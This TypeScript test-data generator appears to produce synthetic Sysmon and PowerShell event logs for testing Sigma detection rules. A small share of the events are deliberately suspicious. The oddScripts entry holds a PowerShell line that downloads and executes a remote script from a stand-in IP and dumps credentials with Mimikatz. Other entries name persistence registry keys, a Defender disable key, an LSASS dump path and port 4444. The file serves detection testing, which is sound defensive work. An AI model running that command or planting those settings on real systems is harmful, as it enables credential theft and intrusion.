import type { JsonObject } from '../src/event/json.ts';
import type { LogSource } from '../src/sigma/rule.ts';
import { hex, randomFrom } from './random.ts';
import { oddProcesses, ordinaryProcesses, system } from './windows-processes.ts';

/** A made-up event as Sysmon and PowerShell write them, with the log source that a collector knows it by. */
export interface WindowsEvent {
  readonly source: LogSource;
  readonly fields: JsonObject;
}

/** A working day of Windows machines: nearly all of it ordinary, one event in fifty such as rules look for. The same seed gives the same events. */
export function makeWindowsEvents(count: number, seed = 1): readonly WindowsEvent[] {
  const random = randomFrom(seed);
  return Array.from({ length: count }, (_, i) => {
    let at = random() * totalWeight;
    const kind = kinds.find((candidate) => (at -= candidate.weight) < 0) ?? processCreation;
    const time = new Date(Date.UTC(2026, 10, 20, 8) + i * 97).toISOString().replace('T', ' ').slice(0, 23);
    const host = `WS-${hex(random).slice(0, 4).toUpperCase()}.corp.example`;
    const fields = {
      EventID: kind.eventId,
      Channel: kind.channel,
      Provider_Name: kind.provider,
      Computer: host,
      UtcTime: time,
      ...kind.make(random),
    };
    // As it comes off the wire: no text shared with the generator's own.
    const parsed: unknown = JSON.parse(JSON.stringify(fields));
    return { source: kind.source, fields: parsed as JsonObject };
  });
}

type Random = () => number;
type Fields = Readonly<Record<string, string | number>>;

interface Kind {
  readonly weight: number;
  readonly source: LogSource;
  readonly eventId: number;
  readonly channel: string;
  readonly provider: string;
  readonly make: (random: Random) => Fields;
}

const oddOnes = 0.02;

function one<T>(list: readonly T[], random: Random): T {
  const item = list[Math.floor(random() * list.length)];
  if (item === undefined) throw new Error('there is nothing to choose from');
  return item;
}

function guid(random: Random): string {
  const text = hex(random) + hex(random) + hex(random) + hex(random);
  return `{${text.slice(0, 8)}-${text.slice(8, 12)}-${text.slice(12, 16)}-${text.slice(16, 20)}-${text.slice(20)}}`;
}

function hashes(random: Random): string {
  const long = () =>
    Array.from({ length: 4 }, () => hex(random) + hex(random))
      .join('')
      .toUpperCase();
  return `MD5=${long().slice(0, 32)},SHA256=${long()},IMPHASH=${long().slice(0, 32)}`;
}

function fileName(path: string): string {
  return path.slice(path.lastIndexOf('\\') + 1);
}

const people = ['anna', 'ben', 'carla', 'dmitri', 'elif', 'josé', 'zoë'];

function makeProcess(random: Random): Fields {
  const user = one(people, random);
  const [image = '', commandLine = '', parent = '', parentCommandLine = ''] = one(
    random() < oddOnes ? oddProcesses : ordinaryProcesses,
    random,
  ).map((text) => text.replaceAll('@', user).replaceAll('#', () => String(Math.floor(random() * 100_000))));
  const name = fileName(image);
  return {
    RuleName: '-',
    ProcessGuid: guid(random),
    ProcessId: Math.floor(random() * 30_000),
    Image: image,
    FileVersion: '10.0.22621.1 (WinBuild.160101.0800)',
    Description: name.replace(/\.exe$/i, ''),
    Product: image.startsWith(system) ? 'Microsoft® Windows® Operating System' : fileName(name),
    Company: 'Microsoft Corporation',
    OriginalFileName: name,
    CommandLine: commandLine,
    CurrentDirectory: String.raw`C:\Users\${user}\ `.trim(),
    User: String.raw`CORP\ `.trim() + user,
    LogonGuid: guid(random),
    LogonId: `0x${hex(random).slice(0, 6)}`,
    TerminalSessionId: 1,
    IntegrityLevel: random() < 0.2 ? 'System' : 'Medium',
    Hashes: hashes(random),
    ParentProcessGuid: guid(random),
    ParentProcessId: Math.floor(random() * 30_000),
    ParentImage: parent,
    ParentCommandLine: parentCommandLine,
    ParentUser: String.raw`NT AUTHORITY\SYSTEM`,
  };
}

function actor(random: Random): Fields {
  const [image] = one(ordinaryProcesses, random);
  return {
    RuleName: '-',
    ProcessGuid: guid(random),
    ProcessId: Math.floor(random() * 30_000),
    Image: image.replaceAll('@', 'anna'),
    User: String.raw`CORP\anna`,
  };
}

const registryKeys = [
  String.raw`HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-#-1001\Device\HarddiskVolume3\Windows\explorer.exe`,
  String.raw`HKU\S-1-5-21-#-1001\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer\SessionInfo\1\ApplicationViewManagement\W32:#`,
  String.raw`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Diagnostics\DiagTrack\HttpRequestCount#`,
  String.raw`HKU\S-1-5-21-#-1001\SOFTWARE\Microsoft\Office\16.0\Common\Roaming\Identities\Anonymous\Settings\#`,
  String.raw`HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated#`,
  String.raw`HKLM\System\CurrentControlSet\Services\W32Time\SecureTimeLimits\RunTime\SecureTimeTickCount#`,
];
const oddKeys = [
  String.raw`HKU\S-1-5-21-#-1001\Software\Microsoft\Windows\CurrentVersion\Run\Updater#`,
  String.raw`HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`,
  String.raw`HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential`,
];
const domains = [
  'outlook.office365.com',
  'login.microsoftonline.com',
  'update.googleapis.com',
  'registry.npmjs.org',
  'github.com',
  'teams.events.data.microsoft.com',
];
const files = [
  String.raw`C:\Users\anna\AppData\Local\Google\Chrome\User Data\Default\Cache\Cache_Data\f_00#`,
  String.raw`C:\Users\anna\AppData\Local\Temp\vscode-typescript-#\tscancellation.tmp#`,
  String.raw`C:\ProgramData\Microsoft\Windows Defender\Scans\History\Results\Resource\{#}`,
  String.raw`C:\Users\anna\AppData\Local\Microsoft\OneDrive\logs\Personal\SyncEngine-#.odlgz`,
  String.raw`C:\Windows\Prefetch\MSEDGE.EXE-37D25F9#.pf`,
];
const oddFiles = [
  String.raw`C:\Users\anna\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\update#.vbs`,
  String.raw`C:\Windows\Temp\lsass_#.dmp`,
];
const libraries = [
  'ntdll.dll',
  'kernel32.dll',
  'user32.dll',
  'ucrtbase.dll',
  'bcryptprimitives.dll',
  'combase.dll',
  'SHCore.dll',
  'dbghelp.dll',
];
const scripts = [
  'function Get-DeviceCompliance {\n  param([string]$Path = "HKLM:\\SOFTWARE\\Contoso\\Compliance")\n  $state = Get-ItemProperty -Path $Path -ErrorAction SilentlyContinue\n  if ($null -eq $state) { return "unknown" }\n  return $state.Result\n}\nGet-DeviceCompliance | Out-File -FilePath "C:\\ProgramData\\Contoso\\state-#.txt" -Encoding utf8',
  'Import-Module Pester -MinimumVersion 5.5\nInvoke-Pester -Path ./tests -Output Detailed -CI #',
  '$items = Get-ChildItem -Path C:\\Builds -Filter *.zip | Sort-Object LastWriteTime -Descending | Select-Object -Skip #\n$items | Remove-Item -Force -WhatIf:$false',
];
const oddScripts = [
  '$c = New-Object System.Net.WebClient; IEX $c.DownloadString("http://203.0.113.9/s#.ps1"); Invoke-Mimikatz -DumpCreds',
];

function fill(ordinary: readonly string[], odd: readonly string[], random: Random): string {
  const text = one(random() < oddOnes ? odd : ordinary, random);
  return text.replaceAll('#', () => String(Math.floor(random() * 10_000_000)));
}

const sysmon = 'Microsoft-Windows-Sysmon';
const fromSysmon = { channel: `${sysmon}/Operational`, provider: sysmon };

function source(category: string, service = 'sysmon'): LogSource {
  return { product: 'windows', category, service };
}

const processCreation: Kind = {
  ...fromSysmon,
  weight: 30,
  source: source('process_creation'),
  eventId: 1,
  make: makeProcess,
};

const kinds: readonly Kind[] = [
  processCreation,
  {
    ...fromSysmon,
    weight: 22,
    source: source('registry_set'),
    eventId: 13,
    make: (random) => ({
      ...actor(random),
      EventType: 'SetValue',
      TargetObject: fill(registryKeys, oddKeys, random),
      Details: random() < 0.5 ? `DWORD (0x${hex(random)})` : `QWORD (0x${hex(random)}-0x${hex(random)})`,
    }),
  },
  {
    ...fromSysmon,
    weight: 14,
    source: source('network_connection'),
    eventId: 3,
    make: (random) => ({
      ...actor(random),
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: `10.20.3.${Math.floor(random() * 255)}`,
      SourceHostname: `WS-${hex(random).slice(0, 4)}.corp.example`,
      SourcePort: 49_152 + Math.floor(random() * 10_000),
      DestinationIsIpv6: 'false',
      DestinationIp: `198.51.100.${Math.floor(random() * 255)}`,
      DestinationHostname: one(domains, random),
      DestinationPort: random() < oddOnes ? 4444 : 443,
    }),
  },
  {
    ...fromSysmon,
    weight: 14,
    source: source('file_event'),
    eventId: 11,
    make: (random) => ({
      ...actor(random),
      TargetFilename: fill(files, oddFiles, random),
      CreationUtcTime: '2026-11-20 08:00:00.000',
    }),
  },
  {
    ...fromSysmon,
    weight: 10,
    source: source('image_load'),
    eventId: 7,
    make: (random) => {
      const library = one(libraries, random);
      return {
        ...actor(random),
        ImageLoaded: String.raw`${system}\ `.trim() + library,
        FileVersion: '10.0.22621.1 (WinBuild.160101.0800)',
        OriginalFileName: library,
        Company: 'Microsoft Corporation',
        Hashes: hashes(random),
        Signed: 'true',
        Signature: 'Microsoft Windows',
        SignatureStatus: 'Valid',
      };
    },
  },
  {
    ...fromSysmon,
    weight: 6,
    source: source('dns_query'),
    eventId: 22,
    make: (random) => ({
      ...actor(random),
      QueryName: one(domains, random),
      QueryStatus: '0',
      QueryResults: '::ffff:198.51.100.7;::ffff:198.51.100.8;',
    }),
  },
  {
    weight: 4,
    channel: 'Microsoft-Windows-PowerShell/Operational',
    provider: 'Microsoft-Windows-PowerShell',
    source: source('ps_script', 'powershell'),
    eventId: 4104,
    make: (random) => ({
      MessageNumber: 1,
      MessageTotal: 1,
      ScriptBlockText: fill(scripts, oddScripts, random),
      ScriptBlockId: guid(random),
      Path: '',
    }),
  },
];
const totalWeight = kinds.reduce((sum, kind) => sum + kind.weight, 0);
